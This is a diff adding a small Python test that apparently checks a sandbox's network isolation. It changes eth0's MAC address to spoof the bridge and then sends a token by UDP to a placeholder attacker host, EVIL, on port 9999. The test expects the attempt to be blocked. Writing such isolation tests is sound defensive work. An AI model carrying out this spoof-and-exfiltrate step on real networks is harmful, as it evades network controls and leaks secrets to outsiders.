@@ -1,0 +1,13 @@
+"""
+how: the bridge's MAC address for itself
+expect: shut
+unseen: a plain network would carry it, as it has a way there already
+"""
+
+from frames import changed
+from land import EVIL
+from sockets import udp
+
+
+def attempt(token):
+    return changed(["link", "set", "eth0", "address", "02:de:ad:be:ef:02"], lambda: udp(EVIL, 9999, token))
